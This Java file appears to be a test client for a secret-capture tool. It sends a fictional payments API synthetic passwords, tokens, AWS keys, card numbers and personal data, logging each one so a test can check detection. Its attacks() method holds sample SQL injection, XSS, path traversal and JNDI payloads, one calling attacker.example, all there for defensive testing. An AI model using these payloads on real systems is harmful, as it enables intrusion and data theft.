package io.periscope.server.secretcapture;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.periscope.server.cli.sample.ClientScript;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;

/**
 * Drives {@link LighthouseApi} like its web app and back-office scripts do, with every way a credential
 * or personal datum travels: passwords in JSON, form and multipart bodies and in a query; tokens read
 * from sign-in responses and sent back as Bearer, in X-Id-Token / X-Refresh-Token / X-Api-Token /
 * X-Amz-Security-Token, in a custom header, in cookies and in query parameters (jwt, id_token,
 * refresh_token, client_secret, sig, signature, presigned S3 parameters); Basic and Proxy-Authorization;
 * AWS keys and a PEM private key in JSON; profiles and payments with SSN, IBAN, card, birth date, phone,
 * e-mail; gzip and chunked responses. Attack payloads (SQL, script, traversal, JNDI) go in queries and
 * bodies. Every request carries an {@code X-Request-Id} so a test can find its exchange.
 */
final class LighthouseClient implements ClientScript {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int ACCOUNTS = 8;

    /** Request ids of the exchanges the end-to-end test follows. */
    record Followed(List<String> sharedPasswordSignIns, String tokenIssuedBy, String tokenSentBy) {
    }

    private final HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(5)).build();
    private final SecretLedger ledger;
    private final FictionalData data = new FictionalData(42);
    private final String adminPassword;
    private final List<String> sharedPasswordSignIns = new ArrayList<>();
    private String base;
    private int sent;
    private String tokenIssuedBy;
    private String tokenSentBy;

    LighthouseClient(SecretLedger ledger, String adminPassword) {
        this.ledger = ledger;
        this.adminPassword = adminPassword;
    }

    int requestsSent() {
        return sent;
    }

    Followed followed() {
        return new Followed(List.copyOf(sharedPasswordSignIns), tokenIssuedBy, tokenSentBy);
    }

    @Override
    public void run(String baseUrl) throws IOException, InterruptedException {
        this.base = baseUrl;
        String sharedPassword = ledger.add(Needle.Kind.PASSWORD, "sign-in and register bodies (shared by two accounts)", data.password());
        for (int i = 0; i < ACCOUNTS; i++) {
            account(i, i < 2 ? sharedPassword : ledger.add(Needle.Kind.PASSWORD, "sign-in and register bodies", data.password()));
        }
        backOffice();
        credentialsInQueries();
        attacks();
    }

    private void account(int i, String password) throws IOException, InterruptedException {
        String email = ledger.add(Needle.Kind.EMAIL, "register, sign-in and profile bodies", "holder" + (i + 1) + "." + data.hex(4) + "@example.com");
        ObjectNode registration = JSON.createObjectNode().put("name", "Account Holder " + (i + 1)).put("email", email)
                .put("password", password)
                .put("phone", ledger.add(Needle.Kind.PHONE, "register and profile bodies", data.phone(i)))
                .put("dateOfBirth", ledger.add(Needle.Kind.DATE_OF_BIRTH, "register and profile bodies", data.dateOfBirth()));
        send("register-" + i, post("/v1/auth/register", registration));

        HttpRequest.Builder signIn = i % 2 == 0
                ? post("/v1/auth/sign-in", JSON.createObjectNode().put("email", email).put("password", password))
                : form("/v1/auth/sign-in", Map.of("username", email, "password", password, "remember", "true"));
        if (i % 4 == 0) {
            signIn.header("Accept-Encoding", "gzip");
        }
        String signInId = "sign-in-" + i;
        HttpResponse<byte[]> signedIn = send(signInId, signIn);
        JsonNode tokens = JSON.readTree(decoded(signedIn));
        String access = tokens.path("accessToken").asText();
        String session = signedIn.headers().firstValue("Set-Cookie").orElseThrow().replaceAll("^lp_session=([^;]*);.*$", "$1");
        if (i < 2) {
            sharedPasswordSignIns.add(signInId);
        }
        if (i == 0) {
            tokenIssuedBy = signInId;
            tokenSentBy = "profile-" + i;
        }

        send("profile-" + i, bearer(get("/v1/me"), access).header("Accept-Encoding", i % 2 == 0 ? "gzip" : "identity"));
        String card = ledger.add(Needle.Kind.PAYMENT_CARD, "profile and payment bodies", FictionalData.TEST_CARDS.get(i));
        String iban = ledger.add(Needle.Kind.IBAN, "profile and payment bodies", FictionalData.EXAMPLE_IBANS.get(i));
        ObjectNode profile = JSON.createObjectNode()
                .put("ssn", ledger.add(Needle.Kind.US_SSN, "profile bodies", data.ssn())).put("iban", iban);
        profile.putObject("address").put("street", (i + 10) + " Harbour Road").put("city", "Portsmouth").put("zip", "00000");
        profile.putArray("cards").addObject().put("number", card).put("expiry", "12/29").put("holder", "Account Holder " + (i + 1));
        send("update-profile-" + i, bearer(put("/v1/me", profile), access));

        ObjectNode payment = JSON.createObjectNode().put("amount", 120.5 + i).put("currency", "EUR");
        payment.putObject("card").put("number", card).put("expiry", "12/29").put("cvc", "7" + i + "1").put("holder", "Account Holder " + (i + 1));
        payment.putObject("beneficiary").put("name", "Utility Co").put("iban", FictionalData.EXAMPLE_IBANS.get((i + 1) % ACCOUNTS));
        HttpResponse<byte[]> created = send("pay-" + i, bearer(post("/v1/payments", payment), access));
        send("payment-" + i, bearer(get(created.headers().firstValue("Location").orElseThrow()), access));

        JsonNode file = JSON.readTree(decoded(send("statement-" + i, bearer(get("/v1/files/stmt" + i + "y2026"), access))));
        String presignedQuery = URI.create(file.path("downloadUrl").asText()).getRawQuery();
        send("statement-download-" + i, bearer(get("/v1/files/stmt" + i + "y2026/content?" + presignedQuery), access));

        send("refresh-" + i, form("/v1/auth/token", Map.of("grant_type", "refresh_token",
                "refresh_token", tokens.path("refreshToken").asText(), "client_id", "lighthouse-web",
                "client_secret", ledger.add(Needle.Kind.CLIENT_SECRET, "token endpoint form body", "lpcs_" + data.alnum(32))))
                .header("Accept-Encoding", "gzip"));

        String proxyPassword = ledger.add(Needle.Kind.PASSWORD, "inside Proxy-Authorization Basic credentials", data.password());
        String proxy = Base64.getEncoder().encodeToString(("proxy-user-" + i + ":" + proxyPassword).getBytes(StandardCharsets.UTF_8));
        send("accounts-" + i, get("/v1/accounts")
                .header("Cookie", "lp_session=" + session + "; lp_theme=dark")
                .header("X-Id-Token", tokens.path("idToken").asText())
                .header("X-Refresh-Token", tokens.path("refreshToken").asText())
                .header("X-Api-Token", ledger.add(Needle.Kind.API_TOKEN, "X-Api-Token header", "lpat_" + data.alnum(36)))
                .header("X-Amz-Security-Token", ledger.add(Needle.Kind.AWS_SESSION_TOKEN, "X-Amz-Security-Token header", data.awsSessionToken()))
                .header("Proxy-Authorization", "Basic " + ledger.add(Needle.Kind.BASIC_CREDENTIAL, "Proxy-Authorization header", proxy))
                .header("X-Lighthouse-Context", ledger.add(Needle.Kind.JWT, "custom header X-Lighthouse-Context", data.jwt("usr_ctx" + i, "lighthouse-edge"))));
    }

    private void backOffice() throws IOException, InterruptedException {
        String basic = Base64.getEncoder().encodeToString((LighthouseApi.ADMIN_USER + ":" + adminPassword).getBytes(StandardCharsets.UTF_8));
        send("admin-users", get("/v1/admin/users").header("Authorization", "Basic " + ledger.add(Needle.Kind.BASIC_CREDENTIAL, "Authorization Basic header", basic)));

        ObjectNode aws = JSON.createObjectNode().put("name", "billing-export").put("region", "eu-west-1");
        aws.putObject("credentials")
                .put("accessKeyId", ledger.add(Needle.Kind.AWS_ACCESS_KEY_ID, "JSON body at depth 2", data.awsAccessKeyId()))
                .put("secretAccessKey", ledger.add(Needle.Kind.AWS_SECRET_KEY, "JSON body at depth 2", data.awsSecretKey()))
                .put("sessionToken", ledger.add(Needle.Kind.AWS_SESSION_TOKEN, "JSON body at depth 2", data.awsSessionToken()));
        send("integration-aws", post("/v1/integrations/aws", aws));
        // keys are also pasted into fields whose names say nothing: only their shape gives them away
        ObjectNode pasted = JSON.createObjectNode().put("note", "rotate next week");
        pasted.putArray("values").add(ledger.add(Needle.Kind.AWS_ACCESS_KEY_ID, "JSON array, neutral name", data.awsAccessKeyId()))
                .add(ledger.add(Needle.Kind.JWT, "JSON array, neutral name", data.jwt("usr_pasted", "lighthouse-api")));
        send("integration-notes", post("/v1/integrations/notes", pasted));

        String pem = FictionalData.privateKeyPem();
        ledger.add(Needle.Kind.PRIVATE_KEY, "PEM private key in a JSON body (a line of key material)", pem.split("\n")[2]);
        send("integration-sftp", post("/v1/integrations/sftp", JSON.createObjectNode().put("host", "sftp.lighthouse-pay.example")
                .put("username", "statements").put("privateKey", pem)));

        String boundary = "----lighthouse" + data.hex(12);
        String multipart = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\nholder1@example.com\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n"
                + ledger.add(Needle.Kind.PASSWORD, "multipart form field", data.password()) + "\r\n"
                + "--" + boundary + "\r\nContent-Disposition: form-data; name=\"statement\"; filename=\"statement.txt\"\r\n"
                + "Content-Type: text/plain\r\n\r\nStatement for account " + FictionalData.EXAMPLE_IBANS.get(2) + "\r\n--" + boundary + "--\r\n";
        send("documents-upload", request("/v1/documents").POST(HttpRequest.BodyPublishers.ofString(multipart))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary));
    }

    private void credentialsInQueries() throws IOException, InterruptedException {
        send("oauth-callback", get("/v1/oauth/callback?code=ac_" + data.alnum(8) + "&state=st" + data.hex(6)
                + "&id_token=" + ledger.add(Needle.Kind.JWT, "id_token query parameter", data.jwt("usr_cb", "lighthouse-web"))));
        send("oauth-authorize", get("/v1/oauth/authorize?response_type=token&client_id=lighthouse-web&state=st1"));
        send("password-reset-link", get("/v1/password-reset/"
                + ledger.add(Needle.Kind.JWT, "path segment (a reset link)", data.jwt("usr_reset", "lighthouse-web"))));
        send("user-by-email", get("/v1/users/by-email/"
                + q(ledger.add(Needle.Kind.EMAIL, "path segment (percent-encoded)", "lookup." + data.hex(4) + "@example.com"))));
        send("report-export", get("/v1/reports/export?format=csv&jwt=" + ledger.add(Needle.Kind.JWT, "jwt query parameter", data.jwt("usr_rep", "lighthouse-api"))));
        send("legacy-login", get("/v1/legacy/login?username=ops&password="
                + q(ledger.add(Needle.Kind.PASSWORD, "password query parameter", data.password()))));
        send("session-refresh", get("/v1/sessions/refresh?refresh_token="
                + ledger.add(Needle.Kind.OPAQUE_TOKEN, "refresh_token query parameter", "lprt_" + data.alnum(40))));
        send("introspect", form("/v1/oauth/introspect?client_id=lighthouse-web&client_secret="
                + ledger.add(Needle.Kind.CLIENT_SECRET, "client_secret query parameter", "lpcs_" + data.alnum(32)),
                Map.of("token", ledger.add(Needle.Kind.OPAQUE_TOKEN, "token form field", "lpat_" + data.alnum(40)))));
        send("webhook-deliveries", get("/v1/webhooks/deliveries?since=2026-01-01&sig="
                + ledger.add(Needle.Kind.URL_SIGNATURE, "sig query parameter", data.alnum(43))
                + "&signature=" + ledger.add(Needle.Kind.URL_SIGNATURE, "signature query parameter", data.hex(64))));
        send("export-download", get("/v1/exports/ledger-2026.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
                + ledger.add(Needle.Kind.AWS_ACCESS_KEY_ID, "X-Amz-Credential query parameter", data.awsAccessKeyId())
                + "%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=600"
                + "&X-Amz-Security-Token=" + q(ledger.add(Needle.Kind.AWS_SESSION_TOKEN, "X-Amz-Security-Token query parameter", data.awsSessionToken()))
                + "&X-Amz-SignedHeaders=host&X-Amz-Signature=" + ledger.add(Needle.Kind.URL_SIGNATURE, "X-Amz-Signature query parameter", data.hex(64))));
    }

    private void attacks() throws IOException, InterruptedException {
        send("attack-sqli", get("/v1/search?q=" + q(ledger.attack("' OR '1'='1' -- "))));
        send("attack-xss", get("/v1/search?q=" + q(ledger.attack("<script>alert(document.cookie)</script>"))));
        send("attack-traversal", get("/v1/statements?file=" + q(ledger.attack("../../../../etc/passwd"))));
        send("attack-jndi", get("/v1/search?q=" + q(ledger.attack("${jndi:ldap://attacker.example:1389/Exploit}"))));
        send("attack-ticket", post("/v1/support/tickets", JSON.createObjectNode()
                .put("subject", ledger.attack("${jndi:ldap://attacker.example:1389/a}"))
                .put("message", ledger.attack("<img src=x onerror=alert(1)>"))
                .put("orderRef", ledger.attack("1; DROP TABLE payments; --"))
                .put("attachment", ledger.attack("..\\..\\..\\windows\\win.ini"))));
    }

    private static String q(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(base + path)).header("User-Agent", "lighthouse-web/5.2.0").header("Accept", "application/json");
    }

    private HttpRequest.Builder get(String path) {
        return request(path).GET();
    }

    private HttpRequest.Builder post(String path, JsonNode json) throws IOException {
        return request(path).POST(HttpRequest.BodyPublishers.ofByteArray(JSON.writeValueAsBytes(json))).header("Content-Type", "application/json");
    }

    private HttpRequest.Builder put(String path, JsonNode json) throws IOException {
        return request(path).PUT(HttpRequest.BodyPublishers.ofByteArray(JSON.writeValueAsBytes(json))).header("Content-Type", "application/json");
    }

    private HttpRequest.Builder form(String path, Map<String, String> fields) {
        StringBuilder body = new StringBuilder();
        fields.entrySet().stream().sorted(Map.Entry.comparingByKey()).forEach(f ->
                body.append(body.length() == 0 ? "" : "&").append(q(f.getKey())).append('=').append(q(f.getValue())));
        return request(path).POST(HttpRequest.BodyPublishers.ofString(body.toString()))
                .header("Content-Type", "application/x-www-form-urlencoded");
    }

    private static HttpRequest.Builder bearer(HttpRequest.Builder request, String token) {
        return request.header("Authorization", "Bearer " + token);
    }

    private HttpResponse<byte[]> send(String requestId, HttpRequest.Builder request) throws IOException, InterruptedException {
        HttpResponse<byte[]> response = client.send(request.header("X-Request-Id", requestId).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        sent++;
        if (response.statusCode() >= 400) {
            throw new IllegalStateException(requestId + " answered " + response.statusCode() + ": the capture would not be what it claims");
        }
        return response;
    }

    private static byte[] decoded(HttpResponse<byte[]> response) throws IOException {
        if (response.headers().firstValue("Content-Encoding").filter("gzip"::equals).isEmpty()) {
            return response.body();
        }
        try (GZIPInputStream in = new GZIPInputStream(new ByteArrayInputStream(response.body()))) {
            return in.readAllBytes();
        }
    }
}
